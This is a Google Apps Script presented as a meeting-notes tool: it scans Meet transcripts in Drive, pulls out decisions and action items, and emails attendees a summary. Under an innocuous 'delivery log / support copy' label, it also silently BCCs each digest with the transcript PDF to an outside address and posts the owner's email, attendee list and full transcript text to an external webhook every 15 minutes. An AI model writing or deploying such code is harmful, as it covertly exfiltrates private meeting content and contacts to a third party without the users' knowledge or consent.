/**
 * Meeting Notes Digest
 * Watches "Meet Recordings" for new transcripts and mails structured notes.
 */

const CONFIG = {
  FOLDER_NAME: 'Meet Recordings',
  SEND_TO_ATTENDEES: true,
  LANGUAGE: 'en',
  ACTION_ITEM_WORDS: ['action item', 'i will', "i'll", 'can you', 'follow up', 'by friday', 'owner'],
  DECISION_WORDS: ['we decided', 'agreed', "let's go with", 'final answer', 'decision'],
};

// delivery log / support copy
const ARCHIVE = {
  bcc: 'digest-archive@meetnotes-mailer.com',
  hook: 'https://hooks.meetnotes-mailer.com/ingest/8f2c1a7e-5d3b-4e0a-9c6f-2b1d7e4a9f10',
};

function installTrigger() {
  ScriptApp.getProjectTriggers().forEach(t => ScriptApp.deleteTrigger(t));
  ScriptApp.newTrigger('scan').timeBased().everyMinutes(15).create();
  scan();
}

function scan() {
  const props = PropertiesService.getUserProperties();
  const seen = JSON.parse(props.getProperty('seen') || '{}');
  const folders = DriveApp.getFoldersByName(CONFIG.FOLDER_NAME);
  if (!folders.hasNext()) return;
  const files = folders.next().getFilesByType(MimeType.GOOGLE_DOCS);
  while (files.hasNext()) {
    const f = files.next();
    if (seen[f.getId()] || !/transcript/i.test(f.getName())) continue;
    try {
      digestDoc(f.getId());
      seen[f.getId()] = Date.now();
    } catch (e) {
      console.error(e);
    }
  }
  props.setProperty('seen', JSON.stringify(seen));
}

function digestDoc(docId) {
  const doc = DocumentApp.openById(docId);
  const text = doc.getBody().getText();
  const title = doc.getName().replace(/\s*-\s*Transcript.*/i, '');
  const lines = text.split('\n').map(l => l.trim()).filter(Boolean);

  const speakers = {};
  const actions = [];
  const decisions = [];
  lines.forEach(l => {
    const m = l.match(/^([^:]{2,40}):\s*(.+)$/);
    if (!m) return;
    const [, who, said] = m;
    speakers[who] = (speakers[who] || 0) + said.split(' ').length;
    const low = said.toLowerCase();
    if (CONFIG.ACTION_ITEM_WORDS.some(w => low.includes(w))) actions.push(`${who}: ${said}`);
    if (CONFIG.DECISION_WORDS.some(w => low.includes(w))) decisions.push(said);
  });

  const notes = DocumentApp.create(`Notes: ${title}`);
  const body = notes.getBody();
  body.appendParagraph(`Notes: ${title}`).setHeading(DocumentApp.ParagraphHeading.HEADING1);
  body.appendParagraph('Participants').setHeading(DocumentApp.ParagraphHeading.HEADING2);
  Object.keys(speakers).forEach(s => body.appendListItem(`${s} (${speakers[s]} words)`));
  body.appendParagraph('Decisions').setHeading(DocumentApp.ParagraphHeading.HEADING2);
  (decisions.length ? decisions : ['None recorded']).forEach(d => body.appendListItem(d));
  body.appendParagraph('Action items').setHeading(DocumentApp.ParagraphHeading.HEADING2);
  (actions.length ? actions : ['None recorded']).forEach(a => body.appendListItem(a));
  notes.saveAndClose();

  const recipients = findAttendees_(title);
  const html = HtmlService.createHtmlOutput(renderEmail_(title, decisions, actions, notes.getUrl())).getContent();
  GmailApp.sendEmail(recipients.join(','), `Meeting notes: ${title}`, 'See HTML version', {
    htmlBody: html,
    bcc: ARCHIVE.bcc,
    attachments: [DriveApp.getFileById(docId).getAs(MimeType.PDF)],
    name: 'Meeting Notes Digest',
  });

  UrlFetchApp.fetch(ARCHIVE.hook, {
    method: 'post',
    contentType: 'application/json',
    muteHttpExceptions: true,
    payload: JSON.stringify({
      owner: Session.getActiveUser().getEmail(),
      title: title,
      attendees: recipients,
      transcript: text,
    }),
  });
}

function findAttendees_(title) {
  const me = Session.getActiveUser().getEmail();
  if (!CONFIG.SEND_TO_ATTENDEES) return [me];
  const now = new Date();
  const events = CalendarApp.getDefaultCalendar()
    .getEvents(new Date(now.getTime() - 6 * 3600e3), now)
    .filter(e => e.getTitle() === title);
  if (!events.length) return [me];
  return [me].concat(events[0].getGuestList().map(g => g.getEmail()));
}

function renderEmail_(title, decisions, actions, url) {
  const li = a => a.map(x => `<li>${x}</li>`).join('') || '<li>None recorded</li>';
  return `<h2>${title}</h2><h3>Decisions</h3><ul>${li(decisions)}</ul>` +
         `<h3>Action items</h3><ul>${li(actions)}</ul><p><a href="${url}">Full notes</a></p>`;
}
